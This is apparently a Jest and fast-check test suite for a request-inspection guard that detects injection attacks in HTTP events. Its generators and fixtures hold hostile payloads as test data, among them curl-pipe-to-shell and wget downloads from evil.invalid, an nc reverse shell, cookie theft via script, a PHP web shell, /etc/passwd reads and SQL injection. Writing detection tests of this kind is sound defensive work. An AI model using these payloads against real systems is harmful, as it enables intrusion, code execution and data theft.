import { randomBytes } from 'crypto';
import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from 'zlib';
import fc from 'fast-check';
import { testRequests } from './gotestwaf';
import { furtherPayloads, furtherTexts, halves, HeldOut, heldOutPayloads, heldOutTexts, judgedTexts } from './held-out';
import { messagesWith, nestedAttacks, nestedTexts, requestsWith } from './nested';
import { inspectRequest } from '../../../lambda/runtime-guard/requests/event';
import { holdsPrototype } from '../../../lambda/runtime-guard/requests/messages';

const json = (body: unknown, more: object = {}) => ({ httpMethod: 'POST', path: '/orders', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body), ...more });

describe('gotestwaf', () => {
  const requests = testRequests();

  test('finds each attack in each place and spelling', () => {
    const attacks = requests.filter(({ benign }) => !benign);
    expect(attacks.length).toBeGreaterThan(600);
    expect(attacks.filter(({ event }) => inspectRequest(event).length === 0).map(({ payload }) => payload.slice(-80))).toEqual([]);
  });

  test('lets each benign text pass', () => {
    const benign = requests.filter((request) => request.benign);
    expect(new Set(benign.map(({ payload }) => payload)).size).toBe(47);
    expect(benign.flatMap(({ event, payload }) => inspectRequest(event).map(({ attack }) => `${attack}: ${payload}`))).toEqual([]);
  });
});

describe('held-out requests', () => {
  const found = (all: HeldOut[]) => all.filter(({ event }) => inspectRequest(event).length > 0);

  test('there are at least 150 payloads and 300 texts', () => {
    expect(new Set(heldOutPayloads().map(({ text }) => text)).size).toBeGreaterThanOrEqual(150);
    expect(new Set(heldOutTexts().filter(({ group }) => group === 'text').map(({ text }) => text)).size).toBeGreaterThanOrEqual(300);
  });

  test.each([['first', 0], ['second', 1]])('at least 95 %% of the payloads of the %s half are found', (_, half) => {
    const payloads = halves(heldOutPayloads())[half];
    expect(found(payloads).length / payloads.length).toBeGreaterThanOrEqual(0.95);
  });

  test.each([['first', 0], ['second', 1]])('at most 0.5 %% of the texts and orders of the %s half are reported', (_, half) => {
    const texts = halves(heldOutTexts())[half];
    expect(found(texts).length / texts.length).toBeLessThanOrEqual(0.005);
  });
});

describe('a further set of other sources', () => {
  const found = (all: HeldOut[]) => all.filter(({ event }) => inspectRequest(event).length > 0);

  test('there are at least 300 payloads of 11 classes, and 500 texts', () => {
    expect(new Set(furtherPayloads().map(({ text }) => text)).size).toBeGreaterThanOrEqual(300);
    expect(new Set(furtherPayloads().map(({ group }) => group)).size).toBe(11);
    expect(new Set([...furtherTexts(), ...judgedTexts()].map(({ text }) => text)).size).toBeGreaterThanOrEqual(500);
  });

  test.each([['first', 0], ['second', 1]])('at least 95 %% of the payloads of the %s half are found', (_, half) => {
    const payloads = halves(furtherPayloads())[half];
    expect(found(payloads).length / payloads.length).toBeGreaterThanOrEqual(0.95);
  });

  test.each([['that the rules were changed by', furtherTexts()], ['that were written afterwards', judgedTexts()]])('at most 0.5 %% of the texts %s are reported', (_, texts) => {
    expect(found(texts).length / texts.length).toBeLessThanOrEqual(0.005);
  });
});

test('a text of 2,000 signs that repeats what a rule begins with ends soon', () => {
  // a rule that tries each way to read such a text would take minutes for one of them
  const parts = ['\'', '"', '`', '(', ')', '{', '[', '<', '<a ', '../', '.\\', '$(', '${', '; ', '&', '|', '/*', '--', '\n', ' ', 'or 1 ', '%25', '{{', 'x=', '\\x', '=cmd '];
  const texts = parts.flatMap((part) => ['', '\' ', '<a ', ';'].map((before) => before + part.repeat(2_000 / part.length)));
  expect(texts.map((note) => inspectRequest(json({ note })).length <= 1)).toEqual(texts.map(() => true));
}, 60_000);

describe('generated payloads', () => {
  const quote = fc.constantFrom('\'', '"', '\')', '1', '\'))', '%27', '-1\'');
  const blank = fc.constantFrom(' ', '/**/', '%20', '\t', '%0a');
  const tail = fc.constantFrom('--', '-- -', '#', ';--', '/*');
  const cased = (text: string) => fc.array(fc.boolean(), { minLength: text.length, maxLength: text.length })
    .map((upper) => [...text].map((letter, i) => (upper[i] ? letter.toUpperCase() : letter)).join(''));
  const number = fc.integer({ min: 0, max: 9_999 });
  const sql = fc.oneof(
    fc.tuple(quote, blank, cased('or'), number, tail).map(([q, b, or, n, t]) => `${q}${b}${or}${b}${n}=${n}${b}${t}`),
    fc.tuple(quote, blank, cased('union'), cased('select'), fc.integer({ min: 1, max: 9 }), tail).map(([q, b, union, select, n, t]) => `${q}${b}${union}${b}${select}${b}${Array(n).fill('null').join(',')}${t}`),
    fc.tuple(quote, cased('drop'), fc.constantFrom('users', 'orders', '"Accounts"')).map(([q, drop, table]) => `${q}; ${drop} table ${table}--`),
    fc.tuple(quote, blank, number).map(([q, b, n]) => `${q}${b}and${b}sleep(${n % 20})#`),
    fc.tuple(quote, fc.constantFrom('version()', 'database()', 'user()')).map(([q, f]) => `${q} and extractvalue(1,concat(0x7e,${f}))--`),
  );
  const handler = fc.constantFrom('onload', 'onerror', 'onmouseover', 'onfocus', 'ontoggle', 'onpointerenter').chain(cased);
  const script = fc.oneof(
    fc.tuple(fc.constantFrom('svg', 'img src=x', 'body', 'details open', 'video', 'x'), fc.constantFrom(' ', '/', '\n'), handler, number).map(([tag, b, on, n]) => `<${tag}${b}${on}=alert(${n})>`),
    cased('script').map((tag) => `"><${tag}>fetch('//evil.invalid?'+document.cookie)</${tag}>`),
    cased('javascript').map((scheme) => `<a href="${scheme}:alert(1)">x</a>`),
    number.map((n) => `';alert(${n})//`),
  );
  const shell = fc.tuple(fc.constantFrom(';', '|', '||', '&&', '\n', '%0a', '`', '$('), fc.constantFrom('', ' '), fc.constantFrom('whoami', 'cat /etc/hosts', 'wget http://evil.invalid/x.sh', 'ls -la', 'curl -s http://evil.invalid|sh', 'ping -c 3 127.0.0.1', 'nc -e /bin/sh 127.0.0.1 4444'))
    .map(([separator, b, command]) => `127.0.0.1${separator}${b}${command}${separator === '`' ? '`' : separator === '$(' ? ')' : ''}`);

  test.each([['SQL', sql], ['script', script], ['shell', shell]])('%s: each is found in the body of an order', (_, payload) => {
    fc.assert(fc.property(payload, (text) => inspectRequest(json({ id: 7, note: text })).some(({ place }) => place === 'body')), { numRuns: 1_000 });
  });
});

describe('ordinary texts', () => {
  // written to look like an attack where people write such things
  test.each([
    'Please ring the bell (2x) & leave at the back; thanks!', '18" x 24" frame, 2 pcs', 'width 16" or 18"', 'He\'s 6\'2" and she\'s 5\'4"', 'Gift: "Happy birthday, Mom!" -- love, Tom', 'I said "yes" or "no"; not both', 'Size: M or L, color = blue',
    '1 or 2 pieces', 'rock \'n\' roll', 'the boys\' -- and girls\'', 'cat food; dog food', 'Echo Dot | Alexa', 'Find it on page 3; sort by price', 'drop off at table 5; update me by text', 'Select all from the menu', 'Update set to 5', 'Order by 10 or we cancel',
    'Delete from list please', 'union station, 2nd exit', 'Please confirm (by 5pm)', 'Confirm (y/n)', 'alert (red)', 'print (2 copies)', 'I <3 this!', 'A<B and C>D', '{{name}}, your order ships', 'Hello ${name}', 'https://shop.example.com/a?b=1&c=2#top', 'C:/Users/tom/photo.jpg',
    '../images/pic.png', 'R&D; id 5', 'w; h; d', 'ping me at 5', 'kill bill | dvd', '10 > 9 and 3 < 4', 'O\'Brien', 'Procter & Gamble', 'Licensed under the "License");', 'email: a+b@example.com; tel: +1 (555) 010-0000', '-- Tom', '# urgent', '/* no code */ only a comment',
    // what entities, tags, templates, GraphQL and quotations hold
    '<h1>Sale &amp; more</h1>', '&copy; 2026 Acme; all rights reserved', '<p style="text-align:center">Mid</p>', '<img src="/images/a.png" alt="A cat & a dog">', '<%= name %>', '{{date \'YYYY-MM-DD\'}}',
    'query ($after: String) { users(after: $after) { edges { node { id } } } }', 'He said "having lunch at 12 and dinner at 7"', 'He said "limit 10 per customer; offset by returns"', '"between 5 and 7 pm, or 1 in 2 chances"',
    'Either 1 or 0 -- right?', '1 and 1 is 2', 'port 443; ping 5ms; cat 6 cable', 'await fetch(\'/api/orders\', { method: \'POST\' })', 'When I run SELECT * FROM orders WHERE id = 5 I get a timeout.',
    'Query: UPDATE stock SET qty = 0 WHERE sku = "A-1"', 'The docs say `docker run -p 80:80 nginx` first.', 'Our report uses `SELECT name, price FROM items ORDER BY price DESC LIMIT 10` and is slow',
  ])('%s', (text) => {
    expect(inspectRequest(json({ note: text, [text]: 1 }))).toEqual([]);
  });
});

describe('long and encoded bodies', () => {
  const ATTACK = '\' or 1=1--';
  const MEGABYTES = 5_900_000;
  const attacks = (event: object) => inspectRequest(event).map(({ attack, place }) => `${attack} in ${place}`);
  const bytes = (body: Buffer, headers: Record<string, string> = {}) => ({ httpMethod: 'POST', path: '/orders', headers, body: body.toString('base64'), isBase64Encoded: true });
  const calm = 'a line of text, with a blank at its end ';
  const noise = (length: number) => Buffer.from(Array.from({ length }, (_, i) => (i * i * 31 + i * 7 + (i >> 5)) % 256)); // eslint-disable-line no-bitwise
  const part = (name: string, held: Buffer) => Buffer.concat([Buffer.from(`--b0\r\ncontent-disposition: form-data; name="${name}"\r\n\r\n`), held, Buffer.from('\r\n')]);
  const form = (held: Buffer) => bytes(Buffer.concat([part('picture', noise(50_000)), part('note', held), Buffer.from('--b0--')]), { 'content-type': 'multipart/form-data; boundary=b0' });

  test.each([
    ['one text that holds the attack', (end: string) => json({ note: calm.repeat(MEGABYTES / calm.length) + end })],
    ['many texts', (end: string) => json([...Array(1_200_000).fill('ab'), end])],
    ['many objects', (end: string) => json([...Array.from({ length: 120_000 }, (_, id) => ({ id, sku: 'SKU-1', name: 'chair' })), { end }])],
    ['Base64', (end: string) => bytes(Buffer.from(JSON.stringify({ note: calm.repeat(4_000_000 / calm.length), end })))],
    ['gzip', (end: string) => bytes(gzipSync(JSON.stringify({ note: calm.repeat(MEGABYTES / calm.length), end })), { 'Content-Encoding': 'gzip' })],
  ])('what stands at the end of six megabytes is found, and in bounded time: %s', (_, event) => {
    const started = process.cpuUsage();
    expect(attacks(event(ATTACK))).toEqual(['sql-injection in body']);
    expect(attacks(event('two chairs'))).toEqual([]);
    const { user, system } = process.cpuUsage(started);
    expect((user + system) / 1_000).toBeLessThan(20_000); // a tenth of it or less on a machine that does nothing else
  }, 60_000);

  test.each([['gzip', gzipSync], ['x-gzip', gzipSync], ['deflate', deflateSync], ['deflate', deflateRawSync], ['br', brotliCompressSync]] as const)('a body in %s is read (%#)', (coding, compress) => {
    expect(attacks(bytes(compress(JSON.stringify({ note: ATTACK })), { 'content-encoding': coding }))).toEqual(['sql-injection in body']);
    expect(attacks(bytes(compress(JSON.stringify({ note: 'two chairs' })), { 'content-encoding': coding.toUpperCase() }))).toEqual([]);
  });

  test.each([
    ['one that is longer than a request may be', gzipSync(Buffer.alloc(6_300_000, 'a ')), 'gzip'],
    ['one that is cut off', gzipSync(noise(9_000)).subarray(0, 5_000), 'gzip'],
    ['one that is no gzip', noise(2_000), 'gzip'],
    ['one in a coding that the guard does not know', noise(2_000), 'compress'],
    ['one in two codings', gzipSync(gzipSync('a')), 'gzip, gzip'],
    ['one in a coding with the name of a property', noise(2_000), 'constructor'],
  ])('of compressed bodies, %s is reported as not inspected', (_, body, coding) => {
    expect(attacks(bytes(body, { 'content-encoding': coding }))).toEqual(['not-inspected in body']);
  });

  test('a body that API Gateway decompressed is read as it is, though its header stays', () => {
    expect(attacks({ ...json({ note: ATTACK }), headers: { 'content-encoding': 'gzip' } })).toEqual(['sql-injection in body']);
    expect(attacks(bytes(Buffer.from(JSON.stringify({ note: 'two chairs' })), { 'content-encoding': 'gzip' }))).toEqual([]);
  });

  test('a form with a picture in it is read in each part', () => {
    expect(attacks(form(Buffer.from(ATTACK)))).toEqual(['sql-injection in body']);
    expect(attacks(form(Buffer.from('two chairs')))).toEqual([]);
    expect(attacks(form(Buffer.concat([noise(5_000), Buffer.from(' <?php system($_GET[\'c\']); ?> '), noise(5_000)])))).not.toEqual([]);
  });

  test('bytes of pictures and archives are no attack', () => {
    const random = Array.from({ length: 40 }, () => bytes(randomBytes(250_000), { 'content-type': 'image/jpeg' }));
    expect(random.flatMap(attacks)).toEqual([]);
  });

  test('a text that is percent encoded again and again ends soon', () => {
    const started = process.cpuUsage().user;
    expect(attacks(json({ note: `%${'25'.repeat(1_000_000)}` }))).toEqual([]);
    expect((process.cpuUsage().user - started) / 1_000).toBeLessThan(10_000);
  });

  test('a text of letters that stand for sentences is no longer than it was', () => {
    expect(attacks(json({ note: '\ufdfa'.repeat(1_900_000) }))).toEqual([]);
  });
});

test('keys of JSON Schema and references are no operators, and operators are', () => {
  expect(inspectRequest(json({ $schema: 'https://json-schema.org/draft/2020-12/schema', $id: 'a', $defs: { a: { $ref: '#/b', $comment: 'c' } } }))).toEqual([]);
  expect(inspectRequest(json({ id: { $ne: null } }))).toEqual([{ attack: 'nosql-injection', place: 'body' }]);
  expect(inspectRequest(json({ $where: 'sleep(1)' }))).toEqual([{ attack: 'nosql-injection', place: 'body' }]);
});

// each is one letter or word away from a text that passes
test.each([
  ['sql-injection', 'x\' having 1=1--'], ['sql-injection', '" order by 5'], ['sql-injection', '1 and 1 is null'], ['sql-injection', '1 or 1 -- '], ['sql-injection', '\'; select * from users'], ['sql-injection', 'x\' union select * from users'],
  ['shell-injection', 'a & more /etc/hosts'], ['shell-injection', 'a &amp;& cat < /etc/hosts'], ['shell-injection', 'a; ping 10.0.0.5;'], ['shell-injection', '{cat,/etc/hosts}'], ['shell-injection', '10 `docker run -p 80:80 nginx`'],
  ['script-injection', '<p style="width:expression(alert(1))">'], ['script-injection', '<img src="/images/a.png" onerror="go()">'], ['script-injection', '<img src=x>'], ['script-injection', '";fetch(\'//evil.invalid\')'],
])('%s is found beside such texts: %s', (attack, text) => {
  expect(inspectRequest(json({ note: text })).map((one) => one.attack)).toEqual([attack]);
});

describe('places', () => {
  const ATTACK = '\' or 1=1--';

  test.each([
    ['path', { rawPath: `/orders/${encodeURIComponent(ATTACK)}` }],
    ['path', { pathParameters: { id: ATTACK } }],
    ['query', { queryStringParameters: { q: ATTACK } }],
    ['query', { multiValueQueryStringParameters: { q: ['fine', ATTACK] } }],
    ['query', { rawQueryString: `q=${encodeURIComponent(ATTACK)}` }],
    ['header x-note', { headers: { 'X-Note': ATTACK } }],
    ['cookies', { cookies: [`a=${ATTACK}`] }],
    ['body', { body: Buffer.from(JSON.stringify({ a: [{ b: ATTACK }] })).toString('base64'), isBase64Encoded: true }],
    ['body', { body: JSON.stringify({ [ATTACK]: true }) }],
    ['body', { body: JSON.stringify({ user: { $ne: null } }) }],
    ['body', { body: '{"a":{"__proto__":{"admin":true}}}' }],
    ['query', { rawQueryString: 'a[constructor][prototype][admin]=1' }],
    ['query', { queryStringParameters: { 'user.constructor.prototype.admin': '1' } }],
    ['body', { headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'user[__proto__]=1' }],
  ])('%s %#', (place, parts) => {
    expect(inspectRequest({ requestContext: { http: { method: 'POST' } }, headers: {}, ...parts }).map((found) => found.place)).toEqual([place]);
  });

  test('a place is reported once, without the payload', () => {
    const found = inspectRequest(json([ATTACK, ATTACK, '<script>alert(1)</script>']));
    expect(found).toEqual([{ attack: 'sql-injection', place: 'body' }]);
  });

  test('what is no request is not inspected', () => {
    expect(inspectRequest({ Records: [{ body: ATTACK }] })).toEqual([]);
    expect(inspectRequest(null)).toEqual([]);
  });

  test('a token in the authorization header is no text', () => {
    expect(inspectRequest(json({}, { headers: { authorization: ATTACK } }))).toEqual([]);
  });
});

describe('keys that lead to a prototype', () => {
  test.each(nestedAttacks())('%s: found in each request and in each message', (_, value) => {
    for (const event of requestsWith(value)) expect([event, inspectRequest(event)]).toEqual([event, [{ attack: 'prototype-pollution', place: expect.any(String) }]]);
    for (const event of messagesWith(value)) expect([event, holdsPrototype(event)]).toEqual([event, true]);
  });

  test.each(nestedTexts())('%s: none in any request or message', (_, value) => {
    expect(requestsWith(value).flatMap(inspectRequest)).toEqual([]);
    expect(messagesWith(value).filter(holdsPrototype)).toEqual([]);
  });

  test.each(['\' or 1=1--', '<script>alert(1)</script>', '; cat /etc/passwd'])('an attack in a text within a text is found as well: %s', (attack) => {
    const nested = JSON.stringify({ id: 7, payload: JSON.stringify({ note: attack }) });
    expect(inspectRequest(json({ data: nested }))).toHaveLength(1);
    expect(inspectRequest(json({ data: JSON.stringify(nested) }))).toHaveLength(1);
  });
});
